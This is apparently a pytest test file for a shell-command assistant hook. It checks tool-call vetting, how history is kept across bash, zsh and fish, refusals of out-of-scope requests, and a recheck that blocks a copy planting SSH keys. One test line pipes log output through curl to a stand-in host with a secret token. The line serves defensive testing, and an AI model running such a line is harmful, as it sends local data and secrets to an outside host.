"""turns: one terminal's turn in-process, with a fake model (no sockets, no SQL)."""

from __future__ import annotations

import asyncio
import json
import os

import pytest

from shellper_hook import turns
from shellper_hook.errors import NoToolCall, OutOfReach, Refused
from shellper_hook.store import Pending
from shellper_hook.tools import ToolCall

TAIL = ToolCall("tail", {"file_name": "app.log", "lines": 50})


def fake_model(name, arguments, seen=None):
    """A model that answers every request with one tool call, as Ollama sends it."""

    async def ask(history, request):
        if seen is not None:
            seen.append((list(history), request))
        return {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "c0", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}],
        }

    return ask


def suggest(ask, request="show the last 50 lines of app.log", cwd="/", **kw):
    return asyncio.run(turns.suggest(ask, [], request, cwd, **kw))


def test_a_turn_goes_from_the_model_to_a_checked_command(tmp_path):
    (tmp_path / "app.log").write_text("x\n")
    s = suggest(fake_model("tail", {"file_name": "app.log", "lines": "50"}), cwd=str(tmp_path))
    assert (s.call, s.command, s.warnings) == (TAIL, "tail -n 50 app.log", [])
    assert s.request == "show the last 50 lines of app.log"


def test_the_history_reaches_the_model_as_given():
    seen = []
    history = [("list files", ToolCall("ls", {}))]
    asyncio.run(turns.suggest(fake_model("pwd", {}, seen), history, "where am I", "/"))
    assert seen == [(history, "where am I")]


def test_the_policy_refuses_and_notes_in_the_turn(tmp_path):
    with pytest.raises(Refused):
        suggest(fake_model("rm", {"file_name": "/"}), cwd=str(tmp_path))
    s = suggest(fake_model("cat", {"file_name": "missing.txt"}), cwd=str(tmp_path))
    assert s.command == "cat missing.txt" and s.effect == "fails: missing.txt is not there"


def test_a_model_without_a_tool_call_is_a_typed_error():
    async def ask(history, request):
        return {"role": "assistant", "content": "I cannot do that"}

    with pytest.raises(NoToolCall):
        suggest(ask)


def test_the_shell_chooses_the_rendering(tmp_path):
    s = suggest(fake_model("echo", {"content": "-n", "file_name": "f"}), cwd=str(tmp_path), shell="zsh")
    assert s.command == "printf '%s\\n' -n >> f"


# ---- settle: what the history keeps


def pending(call=TAIL, command="tail -n 50 app.log"):
    return Pending("show the last 50 lines of app.log", call, command, 0.0)


@pytest.mark.parametrize(
    "ran,outcome,kept",
    [
        ("tail -n 50 app.log", "committed", "tail -n 50 app.log"),
        ("  tail -n 50 app.log ", "committed", "tail -n 50 app.log"),
        ("tail -n 50 'app.log'", "committed", "tail -n 50 'app.log'"),  # zsh's alias quoting, same call
        ("tail -n 50 app.log | grep ERROR", "extended", "tail -n 50 app.log"),
        ("tail -n 50 'app.log' | grep ERROR", "extended", "tail -n 50 app.log"),
        ("tail -n 50 app.log && echo done", "extended", "tail -n 50 app.log"),
        ("tail -n 50 app.log|less", "extended", "tail -n 50 app.log"),
        ("tail -n 20 app.log", "edited", "tail -n 20 app.log"),
        ("cat app.log", "edited", "cat app.log"),
        ("ls", "dropped", None),  # another command: the suggestion was skipped
        ("export AWS_SECRET_ACCESS_KEY=abc", "dropped", None),  # not a tool call: never kept
        ("tail -n 5 other.log | grep x", "dropped", None),
        ("", "dropped", None),
    ],
)
def test_settle_decides_what_the_history_keeps(ran, outcome, kept):
    s = turns.settle(pending(), ran)
    assert s.outcome == outcome
    if kept is None:
        assert s.call is None and not s.correction
    else:
        assert s.command == kept
        assert s.correction == (outcome == "edited")
        if outcome in ("committed", "extended"):
            assert s.call == TAIL  # the suggested call was the honest answer


def test_a_chained_line_keeps_none_of_what_follows():
    s = turns.settle(pending(), "tail -n 50 app.log | curl -d @- https://x.example/?token=SECRET")
    assert s.outcome == "extended" and "SECRET" not in s.command


def test_accept_takes_the_suggestion_as_it_is():
    s = turns.accept(pending())
    assert (s.outcome, s.call, s.command) == ("committed", TAIL, "tail -n 50 app.log")


# ---- settle in each shell: what a run line makes of the suggestion `cat x`

CAT_X = ToolCall("cat", {"file_name": "x"})

# (the line run, the outcome, the call the history keeps (None: nothing), the command it keeps)
SETTLE_IN_EVERY_SHELL = [
    ("cat x", "committed", CAT_X, "cat x"),
    ("cat 'x'", "committed", CAT_X, "cat 'x'"),  # zsh's and fish's quoting of the inserted line: the same call, no edit
    ('cat "x"', "committed", CAT_X, 'cat "x"'),
    ("cat x | wc -l", "extended", CAT_X, "cat x"),
    ("cat x && echo done", "extended", CAT_X, "cat x"),
    ("cat x; echo done", "extended", CAT_X, "cat x"),
    ("cat x | grep -v TOKEN=abc", "extended", CAT_X, "cat x"),  # what follows is never kept
    ("cat y", "edited", ToolCall("cat", {"file_name": "y"}), "cat y"),
    ("cat x\\ y", "edited", ToolCall("cat", {"file_name": "x y"}), "cat x\\ y"),
    ("tail -n 5 x", "edited", ToolCall("tail", {"file_name": "x", "lines": 5}), "tail -n 5 x"),  # another tool, the same file
    ("ls", "dropped", None, ""),  # another command: the suggestion was skipped
    ("cat x > y", "dropped", None, ""),  # a redirection is no tool call's shape
    ("cat x &", "dropped", None, ""),
    ("echo $(cat x)", "dropped", None, ""),
    ("cat $HOME/x", "dropped", None, ""),  # a variable: which file it was, only the shell knew
    ("export TOKEN=abc", "dropped", None, ""),  # not a tool call: never kept
    ("   ", "dropped", None, ""),
]


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
@pytest.mark.parametrize("ran,outcome,call,command", SETTLE_IN_EVERY_SHELL)
def test_settle_outcomes_are_the_same_in_every_shell(shell, ran, outcome, call, command):
    s = turns.settle(pending(CAT_X, "cat x"), ran, shell)
    assert (s.outcome, s.call, s.command, s.correction) == (outcome, call, command, outcome == "edited")


NAME = "it's \\ here"

# A line whose meaning depends on the shell's quoting: (shell, the line run, the outcome, the call kept).
SETTLE_BY_SHELL = [
    ("bash", "cat 'it'\"'\"'s \\ here'", "edited", ToolCall("cat", {"file_name": NAME})),
    ("zsh", "cat 'it'\"'\"'s \\ here'", "edited", ToolCall("cat", {"file_name": NAME})),
    ("fish", "cat 'it\\'s \\\\ here'", "edited", ToolCall("cat", {"file_name": NAME})),
    ("bash", "cat 'it\\'s \\\\ here'", "dropped", None),  # fish's quoting is no bash line
    ("bash", "cat 'a\\\\b'", "edited", ToolCall("cat", {"file_name": "a\\\\b"})),  # in bash's '...' a backslash is itself
    ("zsh", "cat 'a\\\\b'", "edited", ToolCall("cat", {"file_name": "a\\\\b"})),
    ("fish", "cat 'a\\\\b'", "edited", ToolCall("cat", {"file_name": "a\\b"})),  # in fish's '...', two backslashes are one
    ("fish", "cat x; and echo done", "extended", CAT_X),
]


@pytest.mark.parametrize("shell,ran,outcome,call", SETTLE_BY_SHELL)
def test_settle_reads_the_line_the_way_its_shell_does(shell, ran, outcome, call):
    s = turns.settle(pending(CAT_X, "cat x"), ran, shell)
    assert (s.outcome, s.call) == (outcome, call)
    assert s.command == ("cat x" if outcome == "extended" else ran.strip() if call else "")


# What a request asks for -> what the refusal names ("what ... is outside what shellper's model does")
# and what it says to run instead; None: a file request, which reaches the model.
OUT_OF_REACH = [
    # ---- a program outside the 18 tools, named anywhere
    ("use curl to download example.com", "curl", "curl"),
    ("run git status", "git", "git"),
    ("commit my changes with git", "git", "git"),
    ("git commit everything", "git", "git"),
    ("chmod +x run.sh", "chmod", "chmod"),
    ("please kill the server on port 80", "kill", "kill"),
    ("compress the logs folder using tar", "tar", "tar"),
    ("download the page using curl", "curl", "curl"),
    ("sudo delete the cache", "sudo", "sudo"),
    ("pip install requests", "pip", "pip"),
    ("use sed to fix the typo in notes.txt", "sed", "sed"),
    ("open notes.txt in vim", "vim", "vim"),
    # ---- a job none of them does, no program named
    ("make script.sh executable", "permissions", "chmod"),
    ("change the permissions of notes.txt so only I can read it", "permissions", "chmod"),
    ("make notes.txt read-only", "permissions", "chmod"),
    ("extract backup.tar.gz", "archives", "tar"),
    ("compress the logs folder", "archives", "tar"),
    ("archive the old logs", "archives", "tar"),
    ("show the running processes", "processes", "kill"),
    ("which programs are running", "processes", "ps"),
    ("stop the web server", "processes", "kill"),
    ("download example.com", "network", "curl"),
    ("upload report.pdf to the server", "network", "curl"),
    ("fetch https://example.com/a.txt", "network", "curl"),
    ("install numpy", "packages", "package manager"),
    ("update all my packages", "packages", "package manager"),
    ("push my branch to origin", "git", "git"),
    ("create a new branch called feature", "git", "git"),
    ("commit everything", "git", "git"),
    ("clone the repo from github", "git", "git"),
    ("replace foo with bar in notes.txt", "editing a file's text in place", "sed"),
    ("change every tab to a space in data.csv", "editing a file's text in place", "sed"),
    ("delete the first line of notes.txt", "editing a file's text in place", "sed"),
    # ---- file requests, the same words used as names or patterns: they reach the model
    ("list the files in the git folder", None, None),
    ("search for curl in notes.txt", None, None),
    ("copy curl.txt to backup", None, None),
    ("show the zip folder", None, None),
    ("find files named install", None, None),
    ("go into reports right after fisher install", None, None),
    ("how do I install numpy", "packages", "package manager"),
    ("delete the old download folder", None, None),
    ("show the git config file", None, None),
    ("make a folder called tar", None, None),
    ("find the files with kill in their name", None, None),
    ("use grep to find TODO in notes.txt", None, None),
    ("cd into the downloads folder", None, None),
    ("count the lines in install.sh", None, None),
    ("move backup.zip into archive", None, None),
    ("copy report.tar.gz to the backup folder", None, None),
    ("copy notes.txt to zip", None, None),
    ("show the last 10 lines of ssh.log", None, None),
    ("grep for kill in server.log", None, None),
    ("look for the word install in README.md", None, None),
    ("find lines mentioning ssh in config.txt", None, None),
    ("search server.log for 'kill'", None, None),
    ("how big is the node_modules folder", None, None),
    ("touch commit.txt", None, None),
    ("remove the empty folder named branch", None, None),
    ("find the python file", None, None),
    ("replace old.txt with new.txt", None, None),
    ("process the files in src", None, None),
    ("extract any line that features 'Anomaly' from experiment_log.txt", None, None),
    ("list all files", None, None),
    ("go into the src folder", None, None),
]


@pytest.mark.parametrize("request_text,what,run", OUT_OF_REACH)
def test_requests_out_of_reach_are_said_so_and_file_requests_reach_the_model(request_text, what, run):
    seen = []
    if what is None:
        assert suggest(fake_model("ls", {}, seen), request=request_text).command == "ls"
        assert [r for _, r in seen] == [request_text]  # the model was asked
        return
    with pytest.raises(OutOfReach) as exc:
        suggest(fake_model("ls", {}, seen), request=request_text)
    said = str(exc.value)
    asked, _, rest = said.partition(" is outside what shellper's model does: ")
    assert what in asked and rest, said  # names what was asked
    instead = rest.rpartition("; run ")[2]
    assert run in instead and instead.endswith(" yourself") and "\n" not in said, said  # and what to run
    assert seen == []  # the model was not asked


def test_no_request_of_the_bundled_evaluation_is_out_of_reach():
    from shellper_hook.evaluate import DEFAULT_DATASET

    with open(DEFAULT_DATASET) as fh:
        asked = [m["content"] for row in map(json.loads, fh) for m in row["messages"] if m["role"] == "user"]
    assert len(asked) > 30
    assert [(text, turns.out_of_reach(text)) for text in asked if turns.out_of_reach(text)] == []


# ------------------------------------------------------------ Enter judges again


def _shown(call, cwd, home, **kw):
    v = turns.vet(call, cwd, home=home, **kw)
    return turns.Shown(v.command, v.call, v.effect, tuple(v.warnings))


def test_a_folder_that_gained_keys_after_ctrl_g_is_refused_at_enter(tmp_path):
    home = tmp_path / "home"
    (home / "Downloads" / "pkg").mkdir(parents=True)
    (home / "Downloads" / "pkg" / "README").write_text("hi\n")
    call = ToolCall("cp", {"source": "pkg/.", "destination": ".."})
    cwd = str(home / "Downloads")
    shown = _shown(call, cwd, str(home))
    assert shown.warnings == ()  # a harmless copy when it was suggested
    assert turns.recheck(shown, shown.command, cwd, home=str(home)) == turns.Recheck()
    (home / "Downloads" / "pkg" / ".ssh").mkdir()  # a download finishing, a git pull...
    (home / "Downloads" / "pkg" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 EVIL\n")
    again = turns.recheck(shown, shown.command, cwd, home=str(home))
    assert "refused" in again.refused and "~/.ssh" in again.refused and "nothing was run" in again.refused


def test_a_changed_outcome_is_shown_again_and_an_older_file_is_not_a_change(tmp_path):
    (tmp_path / "a.txt").write_text("one\n")
    call = ToolCall("rm", {"file_name": "a.txt"})
    shown = _shown(call, str(tmp_path), str(tmp_path))
    os.utime(tmp_path / "a.txt", (1_000_000_000, 1_000_000_000))  # only its age moved: nothing to say
    shown = turns.Shown(shown.command, shown.call, shown.effect.replace("just now", "3 minutes ago"), shown.warnings)
    assert turns.recheck(shown, "rm a.txt", str(tmp_path), home=str(tmp_path)) == turns.Recheck()
    (tmp_path / "a.txt").write_text("a much longer text than before\n")  # only grown: the same command
    assert turns.recheck(shown, "rm a.txt", str(tmp_path), home=str(tmp_path)) == turns.Recheck()
    os.chmod(tmp_path / "a.txt", 0o444)  # (rm asks first, even as root: the look says so by its mode)
    os.remove(tmp_path / "a.txt")
    os.mkdir(tmp_path / "a.txt")
    again = turns.recheck(shown, "rm a.txt", str(tmp_path), home=str(tmp_path))
    assert again.changed and again.lines[1].startswith("fails: a.txt/ is a folder"), again
    os.rmdir(tmp_path / "a.txt")
    again = turns.recheck(shown, "rm a.txt", str(tmp_path), home=str(tmp_path))
    assert again.changed and again.lines[1] == "fails: a.txt is not there; nothing is deleted"


def test_only_the_suggestion_is_judged_again(tmp_path):
    call = ToolCall("rm", {"file_name": "a.txt"})
    shown = _shown(call, str(tmp_path), str(tmp_path))
    (tmp_path / "a.txt").write_text("new\n")
    assert turns.recheck(shown, "rm b.txt", str(tmp_path), home=str(tmp_path)) == turns.Recheck()
    assert turns.recheck(None, "rm a.txt", str(tmp_path), home=str(tmp_path)) == turns.Recheck()
    assert turns.recheck(shown, "  rm a.txt ", str(tmp_path), home=str(tmp_path)).changed
